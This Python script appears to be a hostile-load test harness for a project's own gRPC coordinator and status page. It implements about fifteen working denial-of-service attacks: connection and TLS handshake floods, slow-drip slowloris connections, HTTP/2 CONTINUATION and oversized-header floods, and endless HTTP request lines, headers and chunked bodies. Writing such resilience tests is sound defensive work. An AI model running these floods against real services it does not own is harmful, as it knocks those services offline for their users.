#!/usr/bin/env python3
"""What somebody hostile may do to a coordinator, one function each; Python's library alone.

  tests/hostile/attacks.py NAME --grpc HOST:PORT [--page HOST:PORT] [--tls DIR] [--reader DIR]
      [--worker DIR] [--run R] [--seconds S]

goes on until it is told to end, or for --seconds. An attack is a function with @attack before it, that
is given a Target and a function `goes_on`; tests/hostile/campaign then measures it with the others.
"""
import argparse
import dataclasses
import os
import random
import resource
import signal
import socket
import ssl
import sys
import time
from pathlib import Path

ATTACKS = {}


def attack(function):
    """Names it after the function; what it does is its first line of documentation."""
    ATTACKS[function.__name__] = function
    return function


@dataclasses.dataclass
class Target:
    grpc: tuple = None     # (host, port)
    page: tuple = None
    tls: str = ""          # the authority's folder; without it the coordinator speaks in clear
    reader: str = ""       # folder of a reader's certificate
    worker: str = ""       # folder of a worker's certificate
    run: int = 1


def connected(address, timeout=5):
    made = socket.create_connection(address, timeout=timeout)
    made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return made


class Http2:
    """One connection to the coordinator, spoken frame by frame."""
    DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
    END_STREAM, ACK, END_HEADERS = 1, 1, 4

    def __init__(self, target, certificate="", timeout=5):
        self.socket = connected(target.grpc, timeout)
        if target.tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            if certificate:
                folder = Path(certificate)
                context.load_cert_chain(folder / "cert.pem", folder / "key.pem")
            self.socket = context.wrap_socket(self.socket)
        self.stream = -1
        self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        self.frame(self.SETTINGS, 0, 0, b"")

    def frame(self, kind, flags, stream, payload):
        self.socket.sendall(len(payload).to_bytes(3, "big") + bytes([kind, flags]) +
                            stream.to_bytes(4, "big") + payload)

    @staticmethod
    def header(name, value):
        """A literal without indexing; both are short."""
        return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()

    def open(self, path):
        """Begins a call; its number."""
        self.stream += 2
        block = b"".join(self.header(*pair) for pair in (
            (":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "x"),
            ("content-type", "application/grpc"), ("te", "trailers")))
        self.frame(self.HEADERS, self.END_HEADERS, self.stream, block)
        return self.stream

    def say(self, stream, message, last=True):
        self.frame(self.DATA, self.END_STREAM if last else 0, stream,
                   b"\0" + len(message).to_bytes(4, "big") + message)

    def call(self, path, message):
        """A whole unary call: the bytes of the answer, b"" where it is refused."""
        stream = self.open(path)
        self.say(stream, message)
        answer = b""
        while True:
            kind, flags, of, payload = self.hear()
            if of != stream and kind != self.GOAWAY:
                continue
            if kind == self.DATA:
                answer += payload
            if kind in (self.RST, self.GOAWAY) or flags & self.END_STREAM and kind in (
                    self.DATA, self.HEADERS):
                return answer[5:]

    def hear(self):
        """The next frame: kind, flags, stream, payload. Acknowledges settings and pings."""
        head = self.read(9)
        payload = self.read(int.from_bytes(head[:3], "big"))
        kind, flags = head[3], head[4]
        if kind in (self.SETTINGS, self.PING) and not flags & self.ACK:
            self.frame(kind, self.ACK, 0, payload if kind == self.PING else b"")
        return kind, flags, int.from_bytes(head[5:], "big") & 0x7FFFFFFF, payload

    def read(self, size):
        got = b""
        while len(got) < size:
            more = self.socket.recv(size - len(got))
            if not more:
                raise ConnectionError("closed")
            got += more
        return got

    def close(self):
        self.socket.close()


def varint(number):
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def field(number, value):
    """A field of a protobuf message: a number, text or bytes."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    data = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(data)) + data


def keep(goes_on, many, make, poke=None, pause=0.02):
    """Holds `many` of what `make` makes, and makes those anew that have ended; `poke` may end one."""
    held = []
    while goes_on():
        for _ in range(min(64, many - len(held))):
            try:
                held.append(make())
            except OSError:
                break
        for one in list(held):
            try:
                ended = poke(one) is False if poke else closed(one)
            except OSError:
                ended = True
            if ended:
                one.close()
                held.remove(one)
        time.sleep(pause)


def closed(connection):
    connection.setblocking(False)
    try:
        return connection.recv(65536) == b""
    except (BlockingIOError, ssl.SSLWantReadError):
        return False


def drip(text):
    """Pokes a connection with a byte of `text` now and then."""
    def poke(one):
        if closed(one):
            return False
        if random.random() < 0.02:
            one.send(random.choice(text).to_bytes(1, "big"))
        return True
    return poke


# --- The gRPC port -------------------------------------------------------------------------------

@attack
def descriptor_burst(target, goes_on):
    """2,000 TCP connections as fast as they go, with a byte of TLS, closed, and again."""
    while goes_on():
        held = []
        for _ in range(2000):
            if not goes_on():
                break
            one = socket.socket()
            one.setblocking(False)
            one.connect_ex(target.grpc)
            held.append(one)
        time.sleep(0.05)
        for one in held:
            try:
                one.send(b"\x16")
            except OSError:
                pass
        time.sleep(0.05)
        for one in held:
            one.close()
        time.sleep(0.2)


@attack
def idle_connections(target, goes_on):
    """1,500 TCP connections that say nothing, opened anew when they are closed."""
    keep(goes_on, 1500, lambda: connected(target.grpc))


@attack
def burst_without_a_word(target, goes_on):
    """The same without the byte."""
    while goes_on():
        held = [socket.socket() for _ in range(2000)]
        for one in held:
            one.setblocking(False)
            one.connect_ex(target.grpc)
        time.sleep(0.1)
        for one in held:
            one.close()
        time.sleep(0.2)


@attack
def slow_hello(target, goes_on):
    """500 connections that give a hello of TLS byte by byte."""
    keep(goes_on, 500, lambda: connected(target.grpc), drip(b"\x16"))


@attack
def silent_strangers(target, goes_on):
    """500 connections with TLS but without certificate, each with 64 calls that are never finished."""
    def make():
        one = Http2(target)
        for _ in range(64):
            one.open("/grpc.health.v1.Health/Check")
        return one
    keep(goes_on, 500, make, lambda one: not closed(one.socket))


@attack
def health_watches(target, goes_on):
    """200 connections without certificate, each with 64 streams of Health/Watch."""
    def make():
        one = Http2(target)
        for _ in range(64):
            one.say(one.open("/grpc.health.v1.Health/Watch"), b"")
        return one
    keep(goes_on, 200, make, lambda one: not closed(one.socket))


def continued(target, goes_on, begin, more):
    while goes_on():
        try:
            one = Http2(target)
            one.frame(Http2.HEADERS, 0, 1, begin)
            while goes_on():
                one.frame(Http2.CONTINUATION, 0, 1, more)
        except OSError:
            continue


@attack
def endless_grpc_headers(target, goes_on):
    """One call after the other without certificate whose headers never end, as fast as they go."""
    filler = Http2.header("x-filler", "y" * 100) * 140
    continued(target, goes_on, filler, filler)


@attack
def one_endless_grpc_header(target, goes_on):
    """The same with a single header of 2 GB."""
    continued(target, goes_on, b"\0\1x" + b"\x7f" + varint((1 << 31) - 127), b"z" * 16000)


@attack
def handshakes(target, goes_on):
    """TLS handshakes without certificate, one after the other."""
    while goes_on():
        try:
            Http2(target).close()
        except OSError:
            continue


@attack
def unread_exports(target, goes_on):
    """A reader that asks for 20 exports at a time, and reads none."""
    request = field(1, target.run) + field(2, "json")

    def make():
        one = Http2(target, target.reader)
        for _ in range(20):
            one.say(one.open("/joseki.v1.ReaderService/ExportBook"), request)
        one.asked = time.monotonic()
        return one
    # Refused calls are no connection's end: asked anew after a while.
    keep(goes_on, 2, make, lambda one: time.monotonic() - one.asked < 10)


# --- The page ------------------------------------------------------------------------------------

@attack
def idle_page(target, goes_on):
    """1,500 connections to the page that say nothing."""
    keep(goes_on, 1500, lambda: connected(target.page))


@attack
def slow_page(target, goes_on):
    """300 connections to the page that give a request byte by byte."""
    def make():
        one = connected(target.page)
        one.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ")
        return one
    keep(goes_on, 300, make, drip(b"abc"))


def pour(target, goes_on, begin, more):
    while goes_on():
        try:
            with connected(target.page) as one:
                one.sendall(begin)
                while goes_on():
                    one.sendall(more)
        except OSError:
            continue


@attack
def endless_page_headers(target, goes_on):
    """Headers to the page without an end."""
    pour(target, goes_on, b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"X-Filler: yyyyyyyyyy\r\n" * 3000)


@attack
def endless_page_line(target, goes_on):
    """A request line to the page without an end."""
    pour(target, goes_on, b"GET /", b"a" * 65536)


@attack
def endless_page_body(target, goes_on):
    """A chunked body to the page without an end."""
    pour(target, goes_on,
         b"POST /api/status HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n",
         b"10000\r\n" + b"b" * 65536 + b"\r\n")


def address(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("--grpc", type=address, required=True)
    parser.add_argument("--page", type=address)
    parser.add_argument("--tls", default="")
    parser.add_argument("--reader", default="")
    parser.add_argument("--worker", default="")
    parser.add_argument("--run", type=int, default=1)
    parser.add_argument("--seconds", type=float, default=0)
    given = vars(parser.parse_args())
    name, seconds = given.pop("name"), given.pop("seconds")
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    told = []
    for number in (signal.SIGTERM, signal.SIGINT):
        signal.signal(number, lambda *_: told.append(1))
    began, parent = time.monotonic(), os.getppid()

    def goes_on():
        # Ends with the process that started it: nobody else would end it.
        return (not told and (not seconds or time.monotonic() - began < seconds) and
                os.getppid() == parent)
    ATTACKS[name](Target(**given), goes_on)
    return 0


if __name__ == "__main__":
    sys.exit(main())
